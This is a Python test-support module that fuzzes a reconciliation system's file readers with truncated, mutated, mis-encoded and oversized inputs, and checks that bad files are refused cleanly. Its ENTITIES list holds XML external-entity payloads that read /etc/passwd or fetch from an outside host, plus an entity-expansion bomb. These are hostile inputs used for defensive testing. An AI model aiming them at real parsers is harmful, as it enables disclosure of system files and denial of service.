"""Damaged, strange and hostile variants of a file, and what every reader owes whoever delivers one."""

import io
import random
import re
import time
from collections.abc import Iterator
from unicodedata import category

import pyarrow as pa

from reconciliation.errors import RefusedFile
from reconciliation.formats.canonical import Format, ParsedDelivery, ReadOptions

CPU_SECONDS_MAX = 5.0
SENTENCE_LENGTH_MAX = 2_000
PATTERNS = (b"\0", b"\xff", b" ", b"\n", b"A", b"0", b"<", b'"', b",", b"{1:", b"[", b"\x0e\xc2\xa0", b"\r")
CUT_EVERY = 37

Figures = list[tuple[str, int, int]]
"""Of each statement: asset, number of lines and their total; equal figures mean that no money was lost or gained."""

_AMOUNT = re.compile(rb"(?<![0-9.,:/-])[0-9]+[.,][0-9]{1,3}(?![0-9.,:-])")


def outcome(reader: Format, content: bytes, options: ReadOptions) -> Figures | RefusedFile:
    """What a reader makes of a file, within the time that is allowed; whatever else is raised is a defect."""
    begun = time.process_time()
    totals: dict[int, list[int]] = {}

    def take(batch: pa.RecordBatch) -> None:
        for number, minor in zip(
            batch["statement_no"].to_pylist(), batch["amount_minor"].to_pylist(), strict=True
        ):
            total = totals.setdefault(number, [0, 0])
            total[0] += 1
            total[1] += minor

    try:
        parsed = reader.read(io.BytesIO(content), options, take)
    except RefusedFile as refusal:
        told: Figures | RefusedFile = refusal
        assert_sayable(refusal)
    else:
        told = figures(parsed, totals)
    assert time.process_time() - begun < CPU_SECONDS_MAX, f"{len(content)} bytes took too long"
    return told


def figures(parsed: ParsedDelivery, totals: dict[int, list[int]]) -> Figures:
    """Count and total of each statement, as its lines have them."""
    return [
        (statement.asset, *totals.get(number, [0, 0]))  # type: ignore[misc]  # two integers
        for number, statement in enumerate(parsed.statements)
    ]


def assert_sayable(refusal: RefusedFile) -> None:
    """A refusal says where, what was expected and found and what to do; in a sentence that a log can hold."""
    for told in (refusal.code, refusal.place, refusal.expected, refusal.found, refusal.remedy):
        assert told, refusal
        assert len(told) < SENTENCE_LENGTH_MAX, told[:200]
        assert not any(category(character) in ("Cc", "Cs") for character in told), ascii(told)


def noise(head: bytes, seed: int, length: int = 1 << 16) -> bytes:
    """Random bytes behind the first bytes of a good file."""
    return head + random.Random(seed).randbytes(length - len(head))


def cut(content: bytes) -> Iterator[bytes]:
    """The file cut off at every so many bytes."""
    for at in range(CUT_EVERY, len(content), CUT_EVERY):
        yield content[:at]


def line_mutations(content: bytes) -> Iterator[tuple[str, int, bytes]]:
    """Each line removed, doubled, or put behind its neighbour."""
    lines = content.splitlines(keepends=True)
    for at, line in enumerate(lines):
        yield "removed", at, b"".join(lines[:at] + lines[at + 1 :])
        yield "doubled", at, b"".join([*lines[: at + 1], line, *lines[at + 1 :]])
        if at + 1 < len(lines):
            yield "swapped", at, b"".join([*lines[:at], lines[at + 1], line, *lines[at + 2 :]])


def with_amounts(content: bytes, amount: bytes) -> Iterator[bytes]:
    """The file with each of its decimal amounts replaced."""
    for found in _AMOUNT.finditer(content):
        yield content[: found.start()] + amount + content[found.end() :]


AMOUNTS = (
    b"9" * 19,
    b"99999999999999999999999999.99",
    b"7" * 200_000,
    b"1E+2000000",
    b"1e-80000000",
    b"1E5",
    b"NaN",
    b"-Infinity",
    b"0x10",
    b"1_000.00",
    b"--1.00",
    b"1.00.00",
    b"",
    "١٢٫٥٠".encode(),
)


def texts(content: bytes) -> Iterator[tuple[str, bytes]]:
    """The file in other encodings, with other line ends, and with what does not belong into a text."""
    unix = content.replace(b"\r\n", b"\n")
    lines = unix.split(b"\n")
    middle = len(content) // 2
    yield "UTF-16", unix.decode("latin-1").encode("utf-16")
    yield "UTF-16 without a mark", unix.decode("latin-1").encode("utf-16-be")
    yield "byte order mark", b"\xef\xbb\xbf" + content
    yield "two byte order marks", b"\xef\xbb\xbf" * 2 + content
    yield "CR only", unix.replace(b"\n", b"\r")
    yield "CRLF", unix.replace(b"\n", b"\r\n")
    yield (
        "mixed ends",
        b"".join(line + (b"\r\n", b"\n", b"\r")[at % 3] for at, line in enumerate(lines) if line),
    )
    yield "blank lines after it", content + b"\r\n\r\n\n\n"
    yield "control Z after it", content + b"\x1a"
    yield "NUL in it", content[:middle] + b"\0" + content[middle:]
    yield "NULs after it", content + b"\0" * 512
    yield "itself once more", content + content
    yield "an unclosed quote", content[:middle] + b'"' + content[middle:]
    yield "a line of ten megabytes", content[:middle] + b"A" * 10_000_000 + content[middle:]
    yield "a blank line of ten megabytes", content[:middle] + b" " * 10_000_000 + content[middle:]
    yield "a first line of ten megabytes", b"x" * 10_000_000 + b"\n" + content
    yield "bytes of no text", content[:middle] + b"\x81\x8d\xff\xfe" + content[middle:]
    yield "a lone surrogate", content[:middle] + b"\xed\xa0\x80" + content[middle:]
    yield "terminal control codes", content[:middle] + b"\x1b[2J\x1b]0;x\x07\x9b" + content[middle:]


HARMLESS_TEXTS = frozenset({"byte order mark", "CR only", "CRLF", "mixed ends", "blank lines after it"})

ENTITIES = (
    b'<!DOCTYPE x [<!ENTITY a "1">]>',
    b'<!DOCTYPE x SYSTEM "file:///etc/passwd">',
    b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]>',
    b'<!DOCTYPE x [<!ENTITY l0 "ha">'
    + b"".join(b'<!ENTITY l%d "%s">' % (at, b"&l%d;" % (at - 1) * 10) for at in range(1, 10))
    + b"]>",
    b'<!DOCTYPE x [<!ENTITY a "' + b"A" * 100_000 + b'">]>',
)


def documents(content: bytes) -> Iterator[bytes]:
    """Declarations before a document, nesting without end, and members without number."""
    start = content.index(b"?>") + 2 if content.startswith(b"<?xml") else 0
    for declaration in ENTITIES:
        yield content[:start] + declaration + content[start:]
        used = re.sub(rb">[0-9][0-9.]*<", b">&a;&l9;<", content)
        yield used[:start] + declaration + used[start:]
    middle = content.index(b">", len(content) // 2) + 1 if b">" in content[len(content) // 2 :] else 0
    yield content[:middle] + b"<a>" * 100_000 + content[middle:]
    yield content[:middle] + b"<a>" * 5_000 + b"</a>" * 5_000 + content[middle:]
    yield (
        content[:middle]
        + b"<a "
        + b"".join(b'b%d="" ' % at for at in range(20_000))
        + b"/>"
        + content[middle:]
    )
    yield b"[" * 200_000
    yield b'{"data":' * 100_000
    yield b"[" * 50_000 + b"]" * 50_000
    yield b'[{"id":' + b"9" * 200_000 + b"}]"
    yield b'[{"id":"' + b"\\ud800" * 10_000 + b'"}]'
    yield b'[{"a":1,"a":2}]'
